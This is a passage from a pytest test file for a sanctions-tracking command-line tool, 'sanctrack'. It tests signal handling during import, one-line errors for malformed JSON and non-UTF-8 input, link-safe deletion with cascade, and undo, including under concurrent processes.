        assert not _no_partial_files(tmp_path)
        process.send_signal(signal.SIGHUP)
        time.sleep(1.0)
        assert process.poll() is None  # still downloading
        process.send_signal(signal.SIGTERM)  # which it was not told to ignore
        out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 128 + signal.SIGTERM
    assert err.decode() == "Terminated (SIGTERM): nothing was written by the unfinished command.\n"
    assert _no_partial_files(tmp_path)


@pytest.mark.slow
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP])
def test_sigterm_and_sighup_during_import_roll_back_and_say_so(cli, seeded_store, tmp_path, signum):
    # The issue: SIGTERM or SIGHUP during `fetch` or `import` exited 143/129 with no message.
    import subprocess

    big = tmp_path / "big.jsonl"
    write_events(big, 60000)
    digest = store_digest(seeded_store)
    before = sorted(p.name for p in tmp_path.iterdir())
    process = start_process("import", str(big), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=_signal_at_default(signum))
    for _ in range(600):  # until the import writes (its -wal grows), at most a minute
        wal = tmp_path / "store.db-wal"
        if wal.exists() and wal.stat().st_size > 1_000_000:
            break
        time.sleep(0.1)
    process.send_signal(signum)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 128 + signum, err
    assert err.decode() == f"Terminated ({signal.Signals(signum).name}): nothing was written by the unfinished command.\n"
    assert store_digest(seeded_store) == digest
    assert sorted(p.name for p in tmp_path.iterdir()) == before


# -- exit 70 no more, and what import and diff leave ----------------------------------------------


@pytest.mark.parametrize("content,words", [
    ('[{"type": "event", "date": "2025", "authority": "A", "jurisdiction": "US", "targets": ["X"], "summary": ' + "9" * 10000 + "}]", "a number in the JSON is too long"),
    ('[{"type": "event", "date": "2025", "authority": "A\\ud800", "jurisdiction": "US", "targets": ["X"]}]', "half of a UTF-16 surrogate pair"),
    ('{"type": "event", "date": "2025", "authority": "A", "jurisdiction": "US", "targets": ["\\udfff"]}\n', "half of a UTF-16 surrogate pair"),
])  # fmt: skip
def test_hostile_json_values_are_one_error_line_not_a_bug(cli, seeded_store, tmp_path, content, words):
    path = tmp_path / ("bad.jsonl" if content.startswith("{") else "bad.json")
    path.write_text(content)
    digest = store_digest(seeded_store)
    result = run_process("import", str(path))
    err = result.stderr.decode()
    assert result.returncode == 3 and err.startswith("Error: ") and words in err and len(err.splitlines()) == 1, err
    assert store_digest(seeded_store) == digest


def test_a_surrogate_pair_escape_is_still_a_character(cli, tmp_path):
    path = tmp_path / "pair.json"
    path.write_text('[{"type": "event", "date": "2025", "authority": "Smile \\ud83d\\ude00", "jurisdiction": "US", "targets": ["X"]}]')
    cli("import", str(path))
    assert json.loads(cli("export").stdout)[0]["authority"] == "Smile \U0001f600"


def test_an_argument_that_is_not_utf8_is_one_error_line(db):
    import subprocess
    import sys

    env = dict(os.environ)
    env.pop("SANCTRACK_DEBUG", None)
    result = subprocess.run([sys.executable.encode(), b"-m", b"sanctrack", b"add", b"event", b"--date", b"2025",
                             b"--authority", b"A\xed\xa0\x80", b"--jurisdiction", b"US", b"--target", b"Y"],
                            capture_output=True, env=env, timeout=60)
    err = result.stderr.decode()
    assert result.returncode == 2 and err.startswith("Error: argument ") and "not UTF-8" in err
    assert not db.exists()


def test_import_json_tells_already_present_from_nothing(cli, tmp_path):
    first = json.loads(cli("import", str(SEED), "--json").stdout)
    again = json.loads(cli("import", str(SEED), "--json").stdout)
    assert first["already_present"] == 0 and first["events"] == 2
    assert (again["events"], again["responses"], again["already_present"]) == (0, 0, 6)
    empty = tmp_path / "empty.json"
    empty.write_text("[]")
    assert json.loads(cli("import", str(empty), "--json").stdout)["already_present"] == 0


def test_diff_leaves_the_garbage_collector_as_it_found_it(cli):
    import gc

    cli("import", str(REPO / "fixtures" / "lists" / "un_consolidated_xml" / "sample_un_consolidated.xml"),
        "--source", "un")  # dated by the file itself
    assert gc.isenabled()
    cli("diff", "un/latest", "un/latest", "--json")
    assert gc.isenabled()


# -- delete never leaves a link to nothing ---------------------------------------------------------


@pytest.fixture
def linked(cli):
    """A designation, a countermeasure in response to it, and a response to the designation whose
    counter-event is the countermeasure."""
    first = cli.json("add", "event", "--date", "2025-01-03", "--authority", "OFAC", "--jurisdiction", "US",
                     "--target", "Some Company")
    counter = cli.json("add", "event", "--date", "2025-01-10", "--authority", "MOFCOM", "--jurisdiction", "CN",
                       "--target", "Some US Firm", "--in-response-to", first["id"])
    response = cli.json("add", "response", "--to", first["id"], "--date", "2025-01-10", "--actor", "MOFCOM",
                        "--counter-event", counter["id"])
    return first, counter, response


def _round_trips(cli, tmp_path) -> None:
    exported = tmp_path / "all.jsonl"
    cli("export", "-o", str(exported))
    other = tmp_path / f"other-{len(list(tmp_path.glob('other-*.db')))}.db"
    cli("--db", str(other), "import", str(exported))
    assert cli("--db", str(other), "export").stdout == cli("export").stdout
    assert cli("verify").stdout == "ok\n"


def test_deleting_an_event_another_answers_is_refused_without_cascade(cli, linked, db, tmp_path):
    first, counter, response = linked
    digest = store_digest(db)
    refused = cli("delete", counter["id"], code=2)
    assert refused.stderr.startswith(f"Error: {counter['id']} is linked to by 1 record(s): {response['id']}")
    assert "--cascade" in refused.stderr
    refused = cli("delete", first["id"], code=2)  # its response, then the countermeasure answering it
    assert store_digest(db) == digest
    _round_trips(cli, tmp_path)


def test_cascade_unlinks_logs_and_undo_restores_the_links(cli, linked, db, tmp_path):
    first, counter, response = linked
    before = store_digest(db)
    result = cli.json("delete", counter["id"], "--cascade")
    assert result["unlinked"] == [response["id"]]
    assert cli.json("show", response["id"])["counter_event_id"] is None
    _round_trips(cli, tmp_path)
    result = cli.json("delete", first["id"], "--cascade")
    assert result["deleted"] == [response["id"], first["id"]]
    _round_trips(cli, tmp_path)
    cli("undo")
    cli("undo")
    assert store_digest(db) != before  # the log grew, but the records are back with their links
    assert cli.json("show", response["id"])["counter_event_id"] == counter["id"]
    assert cli.json("show", counter["id"])["in_response_to"] == first["id"]


# -- undo, explicit and safe -----------------------------------------------------------------------


def test_undo_by_id_reverts_that_change_only_if_nothing_later_built_on_it(cli, tmp_path):
    imported = json.loads(cli("import", str(SEED), "--json").stdout)
    [import_change] = imported["changes"]
    added = cli.json("add", "event", "--date", "2025-02-01", "--authority", "A", "--jurisdiction", "US",
                     "--target", "Unrelated Company")
    answer = cli.json("add", "response", "--to", "ev-ed50", "--date", "2025-02-02", "--actor", "Someone")
    blocked = cli("undo", str(import_change), code=2)
    assert blocked.stderr.startswith(f"Error: change #{import_change} cannot be undone alone: later change(s) #")
    cli("undo")  # the response, the latest change
    result = cli.json("undo", str(import_change))
    assert result["undone"]["id"] == import_change
    assert cli.json("show", added["id"])["id"] == added["id"]  # the later add is untouched
    assert "already" in cli("undo", str(import_change), code=2).stderr
    assert "itself an undo" in cli("undo", str(result["change"]), code=2).stderr
    assert "no change #999" in cli("undo", "999", code=2).stderr
    del answer


@pytest.mark.slow
@pytest.mark.parametrize("undos_first", [False, True], ids=["all-at-once", "bare-undos-first"])
def test_parallel_undos_never_revert_the_same_change_nor_anothers_import(tmp_path, undos_first):
    """Ten processes import their own file and undo that import by id while twenty add events
    and two undo the latest change: every add that no bare undo reverted is still there, every
    import is gone, and no change is reverted twice."""
    import subprocess
    import sys

    db = tmp_path / "store.db"
    env = dict(os.environ, SANCTRACK_DB=str(db))
    env.pop("SANCTRACK_DEBUG", None)
    start = run_process("add", "event", "--date", "2024", "--authority", "Start", "--jurisdiction", "US",
                        "--target", "Start Co", env={"SANCTRACK_DB": str(db)}).stdout.decode().strip()
    files = []
    for n in range(10):
        path = tmp_path / f"batch{n}.jsonl"
        path.write_text(json.dumps({"type": "event", "date": "2024-03-01", "authority": f"Batch {n}",
                                    "jurisdiction": "GB", "targets": [f"Batch target {n}"]}) + "\n")
        files.append(path)
    script = (
        "import json, subprocess, sys\n"
        "out = subprocess.run([sys.executable, '-m', 'sanctrack', 'import', sys.argv[1], '--json'],"
        " capture_output=True, check=True).stdout\n"
        "change = json.loads(out)['changes'][0]\n"
        "subprocess.run([sys.executable, '-m', 'sanctrack', 'undo', str(change), '--json'], check=True)\n"
    )
    undos = []
    if undos_first:  # the order the processes may also start in, under load, made certain
        undos = [subprocess.Popen([sys.executable, "-m", "sanctrack", "undo", "--json"], env=env,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(2)]
        for process in undos:
            process.wait(timeout=300)
    processes = [subprocess.Popen([sys.executable, "-c", script, str(f)], env=env,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE) for f in files]
    adds = [subprocess.Popen([sys.executable, "-m", "sanctrack", "add", "event", "--date", "2024-04-01",
                              "--authority", f"Adder {n}", "--jurisdiction", "US", "--target",
                              f"Added target {n}", "--json"], env=env, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE) for n in range(20)]
    undos = undos or [subprocess.Popen([sys.executable, "-m", "sanctrack", "undo", "--json"], env=env,
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(2)]
    # The processes start in any order: a bare undo that gets the store before any other change
    # reverts the start (the latest change then), and a second one then has nothing to undo.
    # The test assumed otherwise: in that order the start counted as a reverted add (or the second
    # undo's exit 1 failed it), a failure that depends only on which process starts first.
    told_already = nothing_to_undo = 0
    added = []
    for process in processes + adds + undos:
        out, err = process.communicate(timeout=300)
        if process in processes and process.returncode != 0:
            # A bare undo took this import first: its own undo is told so, and reverts nothing.
            assert "was undone already" in err.decode(), err.decode()
            told_already += 1
            continue
        if process in undos and process.returncode == 1:
            assert err.decode().startswith("Error: nothing to undo"), err.decode()
            nothing_to_undo += 1
            continue
        assert process.returncode == 0, err.decode()
        if process in adds:
            added.append(json.loads(out)["id"])
    conn = sqlite3.connect(db)
    undone = [row[0] for row in conn.execute("SELECT undoes FROM changes WHERE undoes IS NOT NULL")]
    assert len(undone) == len(set(undone)) == 12 - told_already - nothing_to_undo  # never one change twice
    imports = [row[0] for row in conn.execute("SELECT id FROM changes WHERE command = 'import'")]
    assert set(imports) <= set(undone)  # every import undone, each by its own process or a bare undo
    authorities = {row[0] for row in conn.execute("SELECT authority FROM events")}
    assert not [a for a in authorities if a.startswith("Batch")]
    # Every add that exited 0 is still there unless a bare undo reverted it; the two bare undos
    # reverted exactly: the imports whose own undo was told so, those adds, maybe the start.
    present = {row[0] for row in conn.execute("SELECT id FROM events")}
    reverted = [event for event in added if event not in present]
    assert len(added) == 20 and len(reverted) + told_already + (start not in present) == 2 - nothing_to_undo
    conn.close()
    assert cli_verify(db)


def cli_verify(db) -> bool:
    result = run_process("verify", env={"SANCTRACK_DB": str(db)})
    return result.returncode == 0 and result.stdout == b"ok\n"
